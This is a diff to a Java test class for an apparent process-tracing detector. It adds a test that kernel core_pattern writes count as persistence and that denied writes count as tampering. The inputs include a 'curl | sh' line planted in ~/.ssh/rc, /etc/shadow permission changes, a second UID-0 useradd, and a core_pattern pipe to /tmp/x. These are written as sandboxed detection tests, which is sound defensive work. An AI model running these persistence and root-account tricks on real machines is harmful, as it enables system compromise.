@@ -101,10 +101,10 @@ class IndicatorFeaturesTest {
     @Test
     void openingTheShadowFileUpOrAskingForASecondRootIsAccountTamperingEvenWhenRefused() throws Exception {
         StraceRuns.assumeStrace();
-        assumeTrue(Files.isExecutable(Path.of("/usr/bin/setpriv")), "no setpriv (util-linux) here");
+        assumeSetpriv();
         assumeTrue(Files.isExecutable(Path.of("/usr/sbin/useradd")), "no useradd here");
         // nothing changes: chmod runs as nobody and is denied, useradd stops at an unknown option before it writes
-        String nobody = "/usr/bin/setpriv --reuid=65534 --regid=65534 --clear-groups ";
+        String nobody = AS_NOBODY;
         List<ProcessRecord> ps = run("/bin/sh", "-c", nobody + "chmod 0644 /etc/shadow; " + nobody + "chmod 0640 /etc/shadow;"
                 + " /usr/sbin/useradd -o -u 0 --no-such-option pgroot; /usr/sbin/useradd -u 1234 --no-such-option pguser; true");
         List<ProcessRecord> chmods = named(ps, "chmod");
@@ -542,11 +542,11 @@ class IndicatorFeaturesTest {
     @Test
     void sshLoginScriptsArePersistenceAndADeniedWriteToASystemShellProfileIsTampering() throws Exception {
         StraceRuns.assumeStrace();
-        assumeTrue(Files.isExecutable(Path.of("/usr/bin/setpriv")), "no setpriv (util-linux) here");
+        assumeSetpriv();
         assumeTrue(Files.isDirectory(Path.of("/etc/profile.d")), "no /etc/profile.d here");
         // ~/.ssh/rc runs at every ssh login, like a command= in authorized_keys; /etc/profile.d at every login shell
         Path ssh = Files.createDirectories(dir.resolve("home/.ssh"));
-        String nobody = "/usr/bin/setpriv --reuid=65534 --regid=65534 --clear-groups ";
+        String nobody = AS_NOBODY;
         List<ProcessRecord> ps = run("/bin/sh", "-c", "echo 'curl -s http://x/y | sh' > '" + ssh.resolve("rc") + "'; echo ok > '"
                 + ssh.resolve("known_hosts") + "'; " + nobody + "sh -c 'echo x > /etc/profile.d/zz-procguard-test.sh' 2> /dev/null; "
                 + nobody + "sh -c 'echo x > /etc/zz-procguard-test' 2> /dev/null; true");
@@ -572,6 +572,27 @@ class IndicatorFeaturesTest {
         assertThat(cps.get(0).features().get("ind.masquerade")).as("cp, created executable: ~/bin/su").isEqualTo(1f);
         assertThat(cps.get(1).features().get("ind.masquerade")).as("a staging tree's usr/bin/sudo").isZero();
         assertThat(cps.get(2).features().get("ind.masquerade")).as("~/bin/mytool").isZero();
+    }
+
+    @Test
+    void kernelSettingsThatRunAProgramAsRootArePersistenceAndADeniedWriteToThemIsTampering() throws Exception {
+        StraceRuns.assumeStrace();
+        assumeSetpriv();
+        assumeTrue(Files.exists(Path.of("/proc/sys/kernel/core_pattern")), "no /proc/sys/kernel/core_pattern here");
+        // as nobody, so nothing changes: core_pattern '|/tmp/x' would run /tmp/x as root at every crash
+        String nobody = AS_NOBODY;
+        List<ProcessRecord> ps = run("/bin/sh", "-c", nobody + "sh -c 'echo \"|/tmp/x\" > /proc/sys/kernel/core_pattern' 2> /dev/null; "
+                + nobody + "sh -c 'echo 1 > /proc/sys/kernel/sysrq' 2> /dev/null; true");
+        List<ProcessRecord> shells = named(ps, "sh");
+        assertThat(shells).hasSize(3);
+        assertThat(shells.get(0).features().get("ind.account_tamper")).as("core_pattern, denied").isEqualTo(1f);
+        assertThat(shells.get(1).features().get("ind.account_tamper")).as("another kernel setting, denied").isZero();
+
+        // done (as root, replayed: a test must not set the machine's core_pattern)
+        var acc = features.newAccumulator();
+        acc.accept(io.procguard.core.ImmutableTraceEvent.syscall(7, io.procguard.core.Syscalls.OPENAT,
+                "AT_FDCWD</root>, \"/proc/sys/kernel/core_pattern\", O_WRONLY|O_CREAT|O_TRUNC, 0644", 3, null));
+        assertThat(acc.snapshot().get("ind.persistence")).isEqualTo(1f);
     }
 
     @Test
@@ -820,6 +841,13 @@ class IndicatorFeaturesTest {
     private List<ProcessRecord> run(String... command) throws Exception {
         Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, command);
         return StraceRuns.processes(log, features);
+    }
+
+    /** Prefix of a command line that runs the rest as nobody (no groups): denied where root would not be. */
+    private static final String AS_NOBODY = "/usr/bin/setpriv --reuid=65534 --regid=65534 --clear-groups ";
+
+    private static void assumeSetpriv() {
+        assumeTrue(Files.isExecutable(Path.of("/usr/bin/setpriv")), "no setpriv (util-linux) here");
     }
 
     /** @return the processes named {@code comm}, in the order they ended */
